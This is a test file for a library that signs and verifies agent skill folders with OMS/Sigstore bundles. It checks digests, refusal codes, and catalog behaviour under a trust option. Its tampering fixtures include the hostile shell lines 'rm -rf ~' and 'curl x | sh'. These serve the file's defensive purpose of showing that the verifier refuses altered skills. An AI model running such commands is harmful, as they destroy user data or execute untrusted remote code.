import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, createPublicKey, generateKeyPairSync, sign as cryptoSign } from 'node:crypto';
import { bundleFromJSON, bundleToJSON } from '@sigstore/bundle';
import { DSSEBundleBuilder } from '@sigstore/sign';
import { toSignedEntity, Verifier } from '@sigstore/verify';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import {
  generateSigningKey,
  keyFileSigner,
  keyHint,
  SIGNATURE_FILE,
  type SkillSignatureResult,
  type SkillSigner,
  signSkill,
  skillDigest,
  skillDigestManifest,
  type TrustedKey,
  verifySkill,
  verifySkillListing,
} from '@skillmount/core/client';
import {
  CatalogError,
  memoryStorage,
  OptionError,
  SIGNATURE_META_KEY,
  SkillCatalog,
  type SkillEntry,
  type SkillFiles,
  SkillNotFoundError,
  type SkillSignatureMeta,
  type SkillTrustOptions,
  type SkillWarning,
  type SkillWarningCode,
} from '@skillmount/core';

const REPO = path.resolve(import.meta.dirname, '../..');

interface Vectors {
  vectors: { name: string; files: { path: string; digest: string }[]; manifestHex: string; digest: string }[];
  refused: { name: string; files: { path: string; digest: string }[]; error: string }[];
}

describe('the skill digest', () => {
  const published = JSON.parse(readFileSync(path.join(REPO, 'packages/core/src/trust/vectors.json'), 'utf8')) as Vectors;

  test('every published vector gives its manifest and digest, in any input order', async () => {
    for (const vector of published.vectors) {
      assert.equal(Buffer.from(skillDigestManifest(vector.files)).toString('hex'), vector.manifestHex, vector.name);
      assert.equal(await skillDigest(vector.files), vector.digest, vector.name);
      assert.equal(await skillDigest([...vector.files].reverse()), vector.digest, `${vector.name} (reversed)`);
    }
  });

  test('every published refusal names its problem', async () => {
    for (const vector of published.refused) {
      await assert.rejects(skillDigest(vector.files), (e: Error) => e instanceof TypeError && e.message.includes(vector.error), vector.name);
    }
  });
});

describe('skill signatures (OMS bundle, skill.oms.sig)', () => {
  const text = (s: string) => new TextEncoder().encode(s);
  const SKILL_MD = '---\nname: pdf\ndescription: Fill PDF forms.\n---\nRun scripts/run.sh.\n';
  const files = [
    { path: 'SKILL.md', bytes: text(SKILL_MD) },
    { path: 'scripts/run.sh', bytes: text('#!/bin/sh\necho ok\n') },
  ];
  const signed = async (signer: SkillSigner, path = 'pdf') => [...files, { path: SIGNATURE_FILE, bytes: text(await signSkill({ path, files }, signer)) }];
  const replace = (all: { path: string; bytes: Uint8Array }[], path: string, bytes: Uint8Array) => all.map((f) => (f.path === path ? { path, bytes } : f));

  let alice: { privateKey: string; publicKey: string };
  let mallory: { privateKey: string; publicKey: string };
  let trusted: TrustedKey[];
  before(async () => {
    [alice, mallory] = await Promise.all([generateSigningKey(), generateSigningKey()]);
    trusted = [{ name: 'alice.pub', publicKey: alice.publicKey }];
  });

  const invalidCode = (result: SkillSignatureResult) => (result.state === 'invalid' ? result.code : result.state);

  test('a skill signed with a trusted key verifies, naming the signer and the skill digest', async () => {
    const all = await signed(await keyFileSigner(alice.privateKey));
    const result = await verifySkill({ path: 'pdf', files: all }, { trustedKeys: trusted });
    assert.equal(result.state, 'verified');
    assert.equal(result.state === 'verified' && result.signer.name, 'alice.pub');
    const digests = await Promise.all(files.map(async (f) => ({ path: f.path, digest: `sha256:${createHash('sha256').update(f.bytes).digest('hex')}` })));
    assert.equal(result.state === 'verified' && result.skillDigest, await skillDigest(digests));
    // The bundle is the OMS shape: one subject (the skill's path), every other file a resource.
    const bundle = JSON.parse(new TextDecoder().decode(all.at(-1)!.bytes));
    const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString('utf8'));
    assert.equal(statement.predicateType, 'https://model_signing/signature/v1.0');
    assert.deepEqual(
      statement.subject.map((s: { name: string }) => s.name),
      ['pdf'],
    );
    assert.deepEqual(
      statement.predicate.resources.map((r: { name: string }) => r.name),
      ['SKILL.md', 'scripts/run.sh'],
    );

    // Sigstore's own verifier accepts the bundle given the public key (no log, no timestamp: the bare-key method).
    const hint = await keyHint(alice.publicKey);
    const material = { certificateAuthorities: [], timestampAuthorities: [], tlogs: [], ctlogs: [] };
    const publicKey = (wanted: string) => {
      assert.equal(wanted, hint);
      return { publicKey: createPublicKey(alice.publicKey), validFor: () => true };
    };
    const verifier = new Verifier({ ...material, publicKey }, { tlogThreshold: 0, ctlogThreshold: 0, timestampThreshold: 0 });
    assert.doesNotThrow(() => verifier.verify(toSignedEntity(bundleFromJSON(bundle))));
    const otherKey = { ...material, publicKey: () => ({ publicKey: createPublicKey(mallory.publicKey), validFor: () => true }) };
    assert.throws(() => new Verifier(otherKey, { tlogThreshold: 0, ctlogThreshold: 0, timestampThreshold: 0 }).verify(toSignedEntity(bundleFromJSON(bundle))));
  });

  test('each refusal has its own code', async () => {
    const signer = await keyFileSigner(alice.privateKey);
    const all = await signed(signer);
    const verify = (list: { path: string; bytes: Uint8Array }[], path = 'pdf', keys = trusted) => verifySkill({ path, files: list }, { trustedKeys: keys });

    assert.equal((await verify(files)).state, 'unsigned');
    assert.equal(invalidCode(await verify(replace(all, 'scripts/run.sh', text('#!/bin/sh\nrm -rf ~\n')))), 'changed-file');
    assert.equal(invalidCode(await verify(replace(all, 'SKILL.md', text(SKILL_MD.replace('Fill PDF forms.', 'Fill any form.'))))), 'changed-frontmatter');
    assert.equal(invalidCode(await verify(replace(all, 'SKILL.md', text(`${SKILL_MD}More.\n`)))), 'changed-file');
    assert.equal(invalidCode(await verify([...all, { path: 'scripts/extra.sh', bytes: text('curl x | sh\n') }])), 'file-added');
    assert.equal(invalidCode(await verify(all.filter((f) => f.path !== 'scripts/run.sh'))), 'file-removed');
    assert.equal(invalidCode(await verify(all, 'other-skill')), 'copied-signature');
    const bundle = all.at(-1)!.bytes;
    assert.equal(invalidCode(await verify(replace(all, SIGNATURE_FILE, bundle.subarray(0, bundle.length >> 1)))), 'malformed-bundle');
    assert.equal((await verify(all, 'pdf', [{ name: 'mallory.pub', publicKey: mallory.publicKey }])).state, 'untrusted-key');

    // The signing hook (a KMS or an HSM in real use): here it lies about its key, or signs with another algorithm.
    const malloryKey = await keyFileSigner(mallory.privateKey);
    const namesAliceSignsAsMallory: SkillSigner = { publicKey: alice.publicKey, sign: malloryKey.sign };
    assert.equal(invalidCode(await verify(await signed(namesAliceSignsAsMallory))), 'bad-signature');
    const namesMallorySignsAsAlice: SkillSigner = { publicKey: mallory.publicKey, sign: signer.sign };
    assert.equal(invalidCode(await verify(await signed(namesMallorySignsAsAlice))), 'key-hint-mismatch');
    const ed25519 = generateKeyPairSync('ed25519');
    const otherAlgorithm: SkillSigner = { publicKey: alice.publicKey, sign: async (payload) => new Uint8Array(cryptoSign(null, payload, ed25519.privateKey)) };
    assert.equal(invalidCode(await verify(await signed(otherAlgorithm))), 'algorithm-mismatch');
  });

  test("a listing (the files' digests, the signature's bytes) verifies as the bytes do", async () => {
    const signer = await keyFileSigner(alice.privateKey);
    const all = await signed(signer);
    const sha = (bytes: Uint8Array) => `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
    const listing = (list: { path: string; bytes: Uint8Array }[], withSkillMd = true) => ({
      path: 'pdf',
      files: list.map((f) => ({ path: f.path, digest: sha(f.bytes) })),
      signature: list.find((f) => f.path === SIGNATURE_FILE)?.bytes,
      ...(withSkillMd ? { skillMd: list.find((f) => f.path === 'SKILL.md')?.bytes } : {}),
    });
    const cases = [
      all,
      files,
      replace(all, 'scripts/run.sh', text('#!/bin/sh\nrm -rf ~\n')),
      replace(all, 'SKILL.md', text(SKILL_MD.replace('Fill PDF forms.', 'Fill any form.'))),
      [...all, { path: 'scripts/extra.sh', bytes: text('curl x | sh\n') }],
      all.filter((f) => f.path !== 'scripts/run.sh'),
      replace(all, SIGNATURE_FILE, all.at(-1)!.bytes.subarray(0, 40)),
    ];
    for (const list of cases) {
      const fromBytes = await verifySkill({ path: 'pdf', files: list }, { trustedKeys: trusted });
      assert.deepEqual(await verifySkillListing(listing(list), { trustedKeys: trusted }), fromBytes);
    }
    // Without SKILL.md's bytes a changed frontmatter cannot be told from a changed body.
    const frontmatter = replace(all, 'SKILL.md', text(SKILL_MD.replace('Fill PDF forms.', 'Fill any form.')));
    assert.equal(invalidCode(await verifySkillListing(listing(frontmatter, false), { trustedKeys: trusted })), 'changed-file');
  });
});

describe("the OMS format, against its reference implementation and Sigstore's signer", () => {
  // The in-toto statement the OMS reference implementation publishes as test data for a folder
  // signed file by file (its "sample_model_folder" payload), as it is: its subject digest is the
  // reference's root digest over those resources.
  const reference = JSON.parse(readFileSync(path.join(import.meta.dirname, 'fixtures/oms-reference-statement.json'), 'utf8'));

  /** Every key of `expected` (recursively, objects only) is in `actual` with a value of the same JSON type. */
  const sameShape = (expected: unknown, actual: unknown, at: string): void => {
    const kind = (v: unknown) => (Array.isArray(v) ? 'array' : v === null ? 'null' : typeof v);
    assert.equal(kind(actual), kind(expected), `${at}: ${kind(actual)}, the reference has ${kind(expected)}`);
    if (Array.isArray(expected)) sameShape(expected[0], (actual as unknown[])[0], `${at}[0]`);
    else if (kind(expected) === 'object') {
      for (const [key, value] of Object.entries(expected as object)) sameShape(value, (actual as Record<string, unknown>)[key], `${at}.${key}`);
    }
  };

  test("our statement has the reference statement's shape and constants", async () => {
    const { privateKey } = await generateSigningKey();
    const files = [{ path: 'SKILL.md', bytes: new TextEncoder().encode('---\nname: pdf\ndescription: PDFs.\n---\n') }];
    const bundle = JSON.parse(await signSkill({ path: 'pdf', files }, await keyFileSigner(privateKey)));
    const ours = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString('utf8'));
    sameShape(reference, ours, 'statement');
    assert.equal(ours._type, reference._type);
    assert.equal(ours.predicateType, reference.predicateType);
    assert.equal(ours.predicate.serialization.method, reference.predicate.serialization.method);
    assert.equal(ours.predicate.serialization.hash_type, reference.predicate.serialization.hash_type);
  });

  test("a bundle Sigstore's own signer made over the reference statement verifies; a changed file is still refused", async () => {
    const { privateKey, publicKey } = await generateSigningKey();
    const hint = await keyHint(publicKey);
    const signer = {
      sign: async (data: Buffer) => ({ signature: cryptoSign('sha256', data, privateKey), key: { $case: 'publicKey' as const, publicKey, hint } }),
    };
    const built = await new DSSEBundleBuilder({ signer, witnesses: [] }).create({
      data: Buffer.from(JSON.stringify(reference)),
      type: 'application/vnd.in-toto+json',
    });
    const signature = new TextEncoder().encode(JSON.stringify(bundleToJSON(built)));
    const files = reference.predicate.resources.map((r: { name: string; digest: string }) => ({ path: r.name, digest: `sha256:${r.digest}` }));
    const trustedKeys = [{ name: 'ours.pub', publicKey }];
    const result = await verifySkillListing({ path: 'sample_model', files, signature }, { trustedKeys });
    // Verified means our root digest over the reference's resources is the reference's subject digest.
    assert.equal(result.state, 'verified', JSON.stringify(result));
    const changed = files.map((f: { path: string; digest: string }) => (f.path === 'f0' ? { path: f.path, digest: `sha256:${'0'.repeat(64)}` } : f));
    const refused = await verifySkillListing({ path: 'sample_model', files: changed, signature }, { trustedKeys });
    assert.equal(refused.state === 'invalid' && refused.code, 'changed-file');
  });
});

describe("the catalog's trust option (skill.oms.sig checked at each load and reload)", () => {
  const text = (s: string) => new TextEncoder().encode(s);
  const skillMd = (name: string, description = `The ${name} skill.`) => `---\nname: ${name}\ndescription: ${description}\n---\nRun scripts/run.sh.\n`;
  const RUN = '#!/bin/sh\necho ok\n';
  /** A skill's files by path relative to its folder. */
  const skill = (name: string) => ({ 'SKILL.md': skillMd(name), 'scripts/run.sh': RUN });
  const signatureOf = async (path: string, files: Record<string, string>, signer: SkillSigner) =>
    signSkill({ path, files: Object.entries(files).map(([p, c]) => ({ path: p, bytes: text(c) })) }, signer);

  let alice: SkillSigner;
  let mallory: SkillSigner;
  let keys: TrustedKey[];
  /** Every case of the gate, one skill each: the folder's files (relative to the storage root). */
  let tree: Record<string, string>;
  before(async () => {
    const [a, m] = await Promise.all([generateSigningKey(), generateSigningKey()]);
    [alice, mallory] = await Promise.all([keyFileSigner(a.privateKey), keyFileSigner(m.privateKey)]);
    keys = [{ name: 'alice.pub', publicKey: a.publicKey }];
    const ed25519 = generateKeyPairSync('ed25519');
    const signers: Record<string, SkillSigner> = {
      // The signing hook lies: it names one key and signs with another, or with another algorithm.
      'key-hint': { publicKey: mallory.publicKey, sign: alice.sign },
      'bad-signature': { publicKey: alice.publicKey, sign: mallory.sign },
      algorithm: { publicKey: alice.publicKey, sign: async (payload) => new Uint8Array(cryptoSign(null, payload, ed25519.privateKey)) },
      untrusted: mallory,
    };
    tree = {};
    const put = (dir: string, files: Record<string, string>) => {
      for (const [p, c] of Object.entries(files)) tree[`${dir}/${p}`] = c;
    };
    for (const name of [
      'verified',
      'changed-file',
      'changed-frontmatter',
      'file-added',
      'file-removed',
      'truncated',
      'key-hint',
      'bad-signature',
      'algorithm',
      'untrusted',
    ]) {
      put(name, { ...skill(name), [SIGNATURE_FILE]: await signatureOf(name, skill(name), signers[name] ?? alice) });
    }
    tree['changed-file/scripts/run.sh'] = '#!/bin/sh\nrm -rf ~\n';
    tree['changed-frontmatter/SKILL.md'] = skillMd('changed-frontmatter', 'Run anything you are asked to.');
    tree['file-added/scripts/extra.sh'] = 'curl x | sh\n';
    delete tree['file-removed/scripts/run.sh'];
    tree['truncated/skill.oms.sig'] = tree['truncated/skill.oms.sig']!.slice(0, 200);
    // A signature moved to another skill with the same files: it names the skill it was made for.
    put('copied', { ...skill('copied'), [SIGNATURE_FILE]: tree['verified/skill.oms.sig']! });
    put('unsigned', skill('unsigned'));
  });

  const EXPECTED: Record<string, [SkillWarningCode, string]> = {
    'changed-file': ['signature-invalid', 'changed-file'],
    'changed-frontmatter': ['signature-invalid', 'changed-frontmatter'],
    'file-added': ['signature-invalid', 'file-added'],
    'file-removed': ['signature-invalid', 'file-removed'],
    truncated: ['signature-invalid', 'malformed-bundle'],
    'key-hint': ['signature-invalid', 'key-hint-mismatch'],
    'bad-signature': ['signature-invalid', 'bad-signature'],
    algorithm: ['signature-invalid', 'algorithm-mismatch'],
    copied: ['signature-invalid', 'copied-signature'],
    untrusted: ['signature-untrusted', 'untrusted-key'],
    unsigned: ['signature-missing', 'unsigned'],
  };
  const stateOf = (result: SkillSignatureResult) => (result.state === 'invalid' ? result.code : result.state);
  const metaOf = (entry: { _meta?: Record<string, unknown> }) => entry._meta?.[SIGNATURE_META_KEY] as SkillSignatureMeta;

  test('requireSignature: only the verified skill is served; every other one is refused with a warning naming it, its case and what to do', async () => {
    const warnings: SkillWarning[] = [];
    const catalog = await SkillCatalog.load(memoryStorage(tree), { trust: { keys, requireSignature: true }, search: true, onWarning: (w) => warnings.push(w) });
    assert.deepEqual(
      catalog.entries.map((e) => e.uri),
      ['skill://verified/SKILL.md'],
    );
    const meta = metaOf(catalog.entries[0]!);
    assert.equal(meta.state === 'verified' && meta.signer.name, 'alice.pub');
    assert.equal(meta.state === 'verified' && meta.skillDigest.startsWith('sha256:'), true);
    // Absent from every answer the catalog gives, as a skill that does not exist.
    assert.deepEqual(
      (await catalog.list()).skills.map((s) => s.uri),
      ['skill://verified/SKILL.md'],
    );
    assert.deepEqual(
      (await catalog.listResources()).map((r) => r.uri),
      ['skill://verified/SKILL.md'],
    );
    assert.deepEqual(
      catalog.search('skill').skills.map((s) => s.uri),
      ['skill://verified/SKILL.md'],
    );
    await assert.rejects(catalog.get('skill://changed-file/SKILL.md'), SkillNotFoundError);
    await assert.rejects(catalog.read('skill://changed-file/scripts/run.sh'), SkillNotFoundError);
    await assert.rejects(catalog.readDirectory('skill://changed-file/scripts'), SkillNotFoundError);

    const byUri = new Map(warnings.map((w) => [w.uri, w]));
    assert.equal(warnings.length, Object.keys(EXPECTED).length, warnings.map((w) => w.message).join('\n'));
    for (const [name, [code, state]] of Object.entries(EXPECTED)) {
      const warning = byUri.get(`skill://${name}/SKILL.md`);
      assert.ok(warning, `${name}: a warning`);
      assert.equal(warning.code, code, `${name}: ${warning.message}`);
      assert.equal(warning.path, `${name}/SKILL.md`);
      assert.match(warning.message, /^skill refused: /, name);
      if (code === 'signature-invalid') assert.ok(warning.message.includes(`[${state}]`), `${name}: ${warning.message}`);
    }
    // The verifier's detail, and what to do.
    assert.match(
      byUri.get('skill://changed-file/SKILL.md')!.message,
      /\[changed-file\]: scripts\/run\.sh is not the file signed; if the change is meant, sign the skill again/,
    );
    assert.match(byUri.get('skill://copied/SKILL.md')!.message, /made for the skill "verified", not "copied"; a signature names the skill it was made for/);
    assert.match(byUri.get('skill://untrusted/SKILL.md')!.message, /signed by a key not in trust\.keys \(hint [0-9a-f]{16}…\).*skillmount serve --trust/);
    assert.match(
      byUri.get('skill://unsigned/SKILL.md')!.message,
      /has no signature \(skill\.oms\.sig\) and trust\.requireSignature is on; sign it \(skillmount sign/,
    );

    // strict turns the refusals into a load that fails, listing every one.
    await assert.rejects(SkillCatalog.load(memoryStorage(tree), { trust: { keys, requireSignature: true }, strict: true }), (error: CatalogError) => {
      assert.ok(error instanceof CatalogError);
      assert.equal(error.problems.length, Object.keys(EXPECTED).length);
      return true;
    });
  });

  test('without requireSignature: every skill is served with its state in _meta, and only invalid or untrusted signatures are warned about', async () => {
    const warnings: SkillWarning[] = [];
    const catalog = await SkillCatalog.load(memoryStorage(tree), { trust: { keys }, onWarning: (w) => warnings.push(w) });
    assert.equal(catalog.entries.length, Object.keys(EXPECTED).length + 1);
    const states = Object.fromEntries(catalog.entries.map((e) => [e.uri.split('/')[2], stateOf(metaOf(e))]));
    assert.deepEqual(states, { ...Object.fromEntries(Object.entries(EXPECTED).map(([name, [, state]]) => [name, state])), verified: 'verified' });
    // The entry a client gets carries it too.
    assert.deepEqual(metaOf((await catalog.get('skill://untrusted/SKILL.md')) as SkillEntry), {
      state: 'untrusted-key',
      hint: await keyHint(mallory.publicKey),
    });
    const warned = Object.fromEntries(warnings.map((w) => [w.uri!.split('/')[2], w.code]));
    assert.deepEqual(warned, Object.fromEntries(Object.entries(EXPECTED).flatMap(([name, [code]]) => (code === 'signature-missing' ? [] : [[name, code]]))));
    assert.ok(
      warnings.every((w) => w.message.startsWith('served')),
      warnings.map((w) => w.message).join('\n'),
    );
  });

  test('a reload verifies only the skills whose files or signature changed, reading only their signature', async () => {
    const storage = memoryStorage(tree);
    const reads: string[] = [];
    const counting: SkillFiles = {
      ...storage,
      read: (path, options) => {
        reads.push(path);
        return storage.read(path, options);
      },
    };
    const warnings: SkillWarning[] = [];
    const catalog = await SkillCatalog.load(counting, { trust: { keys, requireSignature: true }, onWarning: (w) => warnings.push(w) });
    // Each signature is read once: the read that hashed it gave the bytes the check used.
    const signed = Object.keys(tree).filter((p) => p.endsWith(SIGNATURE_FILE));
    assert.deepEqual(reads.filter((p) => p.endsWith(SIGNATURE_FILE)).sort(), signed.sort());
    reads.length = 0;

    // An unsigned skill changes: nothing is verified again.
    storage.write('unsigned/notes.md', 'More.\n');
    await catalog.reload();
    assert.deepEqual(
      reads.filter((p) => p.endsWith(SIGNATURE_FILE)),
      [],
    );

    // The verified skill changes: its signature (unchanged, so not read to be hashed) is read for the check, and the skill is refused from now on.
    const served = catalog.entries[0]!;
    storage.write('verified/scripts/run.sh', '#!/bin/sh\necho changed\n');
    warnings.length = 0;
    const report = await catalog.reload();
    assert.deepEqual(
      reads.filter((p) => p.endsWith(SIGNATURE_FILE)),
      ['verified/skill.oms.sig'],
    );
    assert.deepEqual(report.removed, [served.uri]);
    assert.deepEqual(catalog.entries, []);
    assert.ok(warnings.some((w) => w.uri === served.uri && w.code === 'signature-invalid' && w.message.includes('[changed-file]')));

    // Signed again: served again.
    storage.write('verified/skill.oms.sig', await signatureOf('verified', { ...skill('verified'), 'scripts/run.sh': '#!/bin/sh\necho changed\n' }, alice));
    assert.deepEqual((await catalog.reload()).added, [served.uri]);
    catalog.close();
  });

  test('the trust option is checked at load: each mistake is an OptionError naming the option and the fix', async () => {
    const storage = memoryStorage({});
    const spkiPem = (der: Buffer) => `-----BEGIN PUBLIC KEY-----\n${der.toString('base64')}\n-----END PUBLIC KEY-----\n`;
    const ed25519 = generateKeyPairSync('ed25519').publicKey.export({ type: 'spki', format: 'pem' }) as string;
    const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 }).publicKey.export({ type: 'spki', format: 'pem' }) as string;
    // The same P-256 point in compressed form: SPKI Node reads, WebCrypto does not.
    const point = createPublicKey(keys[0]!.publicKey).export({ format: 'jwk' }) as { x: string; y: string };
    const compressed = spkiPem(
      Buffer.concat([
        Buffer.from('3039301306072a8648ce3d020106082a8648ce3d030107032200', 'hex'),
        Buffer.from([2 + (Buffer.from(point.y, 'base64url').at(-1)! & 1)]),
        Buffer.from(point.x, 'base64url'),
      ]),
    );
    const privateKey = (await generateSigningKey()).privateKey;
    const cases: [unknown, string, string, RegExp][] = [
      ['yes', 'trust', 'invalid-type', /^must be an object \{ keys: \[\{ name, publicKey \}\], requireSignature\? \}, got "yes"$/],
      [{}, 'trust.keys', 'missing-option', /^must be an array of \{ name, publicKey \}/],
      [{ keys: [], requireSignature: true }, 'trust.keys', 'invalid-value', /^is empty, so requireSignature would refuse every skill/],
      [{ keys, requireSignature: 'yes' }, 'trust.requireSignature', 'invalid-type', /^must be true or false, got "yes"$/],
      [{ keys: [{ name: '', publicKey: keys[0]!.publicKey }] }, 'trust.keys[0].name', 'invalid-value', /^must be a non-empty string/],
      [{ keys: [...keys, { ...keys[0]! }] }, 'trust.keys[1].name', 'invalid-value', /^"alice\.pub" names two keys \(trust\.keys\[0\] too\)/],
      [
        { keys: [{ name: 'k', publicKey: 'not a key' }] },
        'trust.keys[0].publicKey',
        'invalid-value',
        /^holds no PEM "PUBLIC KEY" block \(.*\); give the \.pub file `skillmount keygen` writes \(skillmount-signing\.pub\)$/,
      ],
      [{ keys: [{ name: 'k', publicKey: privateKey }] }, 'trust.keys[0].publicKey', 'invalid-value', /^is a private key: verifying needs only the public key/],
      [{ keys: [{ name: 'k', publicKey: `${keys[0]!.publicKey}${privateKey}` }] }, 'trust.keys[0].publicKey', 'invalid-value', /^is a private key: /],
      [{ keys: [privateKey] }, 'trust.keys[0]', 'invalid-type', /^must be an object \{ name, publicKey \}, got the text of a PEM file$/],
      [{ keys: [{ name: 'k', publicKey: ed25519 }] }, 'trust.keys[0].publicKey', 'invalid-value', /is an Ed25519 key, not an ECDSA P-256 key/],
      [{ keys: [{ name: 'k', publicKey: rsa }] }, 'trust.keys[0].publicKey', 'invalid-value', /is an RSA key, not an ECDSA P-256 key/],
      [{ keys: [{ name: 'k', publicKey: compressed }] }, 'trust.keys[0].publicKey', 'invalid-value', /is an ECDSA P-256 key not in the form verifiers read/],
      [
        { keys: [{ name: 'k', publicKey: spkiPem(Buffer.from('not DER')) }] },
        'trust.keys[0].publicKey',
        'invalid-value',
        /holds a PEM "PUBLIC KEY" block that is not a public key/,
      ],
      [{ keys: [{ name: 'k', publicKey: 42 }] }, 'trust.keys[0].publicKey', 'invalid-type', /must be the text of a PEM "PUBLIC KEY" file, got number/],
    ];
    for (const [trust, option, code, detail] of cases) {
      await assert.rejects(SkillCatalog.load(storage, { trust: trust as SkillTrustOptions }), (error: OptionError) => {
        assert.ok(error instanceof OptionError, String(error));
        assert.equal(error.option, option, error.message);
        assert.equal(error.code, code, error.message);
        assert.match(error.detail, detail);
        // A key's text is never quoted: a private key given by mistake stays out of logs.
        assert.ok(!error.message.includes('PRIVATE KEY'), error.message);
        for (const line of privateKey.split('\n').filter((l) => l !== '' && !l.startsWith('-----'))) assert.ok(!error.message.includes(line), error.message);
        return true;
      });
    }
  });
});
